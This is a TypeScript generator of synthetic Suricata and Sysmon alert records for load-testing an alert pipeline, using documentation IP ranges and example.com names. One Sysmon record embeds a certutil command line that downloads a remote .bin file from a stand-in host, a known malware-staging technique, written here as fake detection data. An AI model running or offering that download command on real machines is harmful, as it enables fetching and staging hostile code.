/**
 * Alerts for load tests: any number, the same for the same seed, made one at a time. About a sixth of them belong to one large
 * incident; the rest fall into many incidents of very different sizes; every eighth is telemetry that opens none.
 * Outside addresses are from the documentation ranges of RFC 5737, names from example.com (RFC 2606).
 */
export interface GenerateOptions {
  readonly count: number;
  readonly seed?: number;
  /** First day, epoch milliseconds. */
  readonly from?: number;
  /** Days the alerts are spread over. Default 30. */
  readonly days?: number;
}

const dayMs = 86_400_000;
const defaultFrom = Date.UTC(2026, 0, 5);
const alertsPerIncident = 40;

/** One JSON record a line, without the line's end. */
export function* generateAlerts(options: GenerateOptions): Generator<string, void, undefined> {
  const random = randomNumbers(options.seed ?? 1);
  const incidents = Math.max(1, Math.round(options.count / alertsPerIncident));
  const from = options.from ?? defaultFrom;
  const days = options.days ?? 30;
  for (let serial = 0; serial < options.count; serial++) {
    // The cube makes few incidents large and most of them small.
    const story = random() < 1 / 6 ? 0 : Math.floor(incidents * random() ** 3);
    const day = from + (story % days) * dayMs;
    const at = day + Math.floor(random() * dayMs);
    const record = serial % 8 === 7 ? telemetry(story, at, serial) : alertOf(story, at, serial, random);
    yield JSON.stringify(record);
  }
}

/** The same as bytes of NDJSON in chunks of about 64 KiB: what an upload is made of. */
export function* generateChunks(options: GenerateOptions): Generator<Uint8Array, void, undefined> {
  const encoder = new TextEncoder();
  let lines = "";
  for (const line of generateAlerts(options)) {
    lines += `${line}\n`;
    if (lines.length < 65_536) continue;
    yield encoder.encode(lines);
    lines = "";
  }
  if (lines !== "") yield encoder.encode(lines);
}

type Maker = (story: number, at: number, serial: number, random: () => number) => object;

const makers: readonly Maker[] = [webAttack, beacon, passwordGuess, policy, hostDetection, scan];

function alertOf(story: number, at: number, serial: number, random: () => number): object {
  const maker = makers[story % makers.length] ?? webAttack;
  return maker(story, at, serial, random);
}

const attacks = [
  [1_000_001, "LOCAL SQL injection in query string", 1],
  [1_000_002, "LOCAL path traversal in URL", 2],
  [1_000_003, "LOCAL shell command in URL", 1],
  [1_000_004, "LOCAL probe for administration page", 2],
] as const;

function webAttack(story: number, at: number, serial: number, random: () => number): object {
  const [id, signature, severity] = attacks[Math.floor(random() * attacks.length)] ?? attacks[0];
  return eve(at, serial, [outside(story), 49_152 + (serial % 16_000)], ["10.20.1.80", 80], {
    alert: {
      action: "allowed",
      gid: 1,
      signature_id: id,
      rev: 1,
      signature,
      category: "Web Application Attack",
      severity,
    },
    app_proto: "http",
    http: { hostname: "shop.example.com", url: `/item?id=${serial}`, http_method: "GET", status: 404 },
  });
}

function beacon(story: number, at: number, serial: number): object {
  return eve(at, serial, [inside(story), 49_152 + (serial % 16_000)], [outside(story), 4443], {
    alert: {
      action: "allowed",
      gid: 1,
      signature_id: 1_000_010,
      rev: 1,
      signature: "LOCAL check-in to known control server",
      category: "Malware Command and Control Activity Detected",
      severity: 1,
    },
  });
}

function passwordGuess(story: number, at: number, serial: number): object {
  return eve(at, serial, [outside(story), 30_000 + (serial % 30_000)], [inside(story % 50), 22], {
    alert: {
      action: "allowed",
      gid: 1,
      signature_id: 1_000_020,
      rev: 1,
      signature: "LOCAL SSH brute force attempt",
      category: "Attempted Administrator Privilege Gain",
      severity: 2,
    },
    app_proto: "ssh",
  });
}

function policy(story: number, at: number, serial: number): object {
  return eve(at, serial, [inside(story), 49_152 + (serial % 16_000)], [outside(serial), 6881], {
    alert: {
      action: "allowed",
      gid: 1,
      signature_id: 1_000_030,
      rev: 1,
      signature: "LOCAL peer-to-peer file sharing",
      category: "Potential Corporate Privacy Violation",
      severity: 1,
    },
  });
}

function scan(story: number, at: number, serial: number): object {
  return eve(
    at,
    serial,
    [outside(serial), 40_000 + (serial % 20_000)],
    [`192.0.2.${story % 254}`, 1 + (serial % 1023)],
    {
      alert: {
        action: "allowed",
        gid: 1,
        signature_id: 1_000_040,
        rev: 1,
        signature: "LOCAL port scan",
        category: "Detection of a Network Scan",
        severity: 3,
      },
    },
  );
}

function hostDetection(story: number, at: number, serial: number): object {
  return sysmonProcess(
    story,
    at,
    serial,
    "C:\\Windows\\System32\\certutil.exe",
    `certutil.exe -urlcache -split -f https://files.example.com/${serial}.bin out.bin`,
  );
}

function telemetry(story: number, at: number, serial: number): object {
  return sysmonProcess(
    story,
    at,
    serial,
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
  );
}

function sysmonProcess(
  story: number,
  at: number,
  serial: number,
  image: string,
  commandLine: string,
): object {
  return {
    "@timestamp": new Date(at).toISOString(),
    TimeCreated: new Date(at).toISOString(),
    EventID: 1,
    Channel: "Microsoft-Windows-Sysmon/Operational",
    SourceName: "Microsoft-Windows-Sysmon",
    Hostname: `ws-${String(story % 5000).padStart(4, "0")}.example.com`,
    RecordNumber: serial,
    ProcessId: String(1000 + (serial % 60_000)),
    Image: image,
    CommandLine: commandLine,
    ParentImage: "C:\\Windows\\explorer.exe",
    User: `EXAMPLE\\user${story % 5000}`,
  };
}

type Side = readonly [ip: string, port: number];

function eve(at: number, serial: number, src: Side, dest: Side, rest: object): object {
  return {
    timestamp: new Date(at).toISOString().replace("Z", "000+0000"),
    flow_id: 1_000_000_000_000 + serial,
    event_type: "alert",
    src_ip: src[0],
    src_port: src[1],
    dest_ip: dest[0],
    dest_port: dest[1],
    proto: "TCP",
    ...rest,
    flow: {
      pkts_toserver: 1 + (serial % 7),
      pkts_toclient: serial % 5,
      bytes_toserver: 60 * (1 + (serial % 7)),
      bytes_toclient: 60 * (serial % 5),
    },
  };
}

function outside(n: number): string {
  return `${n % 2 === 0 ? "198.51.100" : "203.0.113"}.${1 + (Math.floor(n / 2) % 254)}`;
}

function inside(n: number): string {
  return `10.${20 + (Math.floor(n / 62_500) % 200)}.${Math.floor(n / 250) % 250}.${1 + (n % 250)}`;
}

/** mulberry32: small, fast, and good enough to spread test data. */
function randomNumbers(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
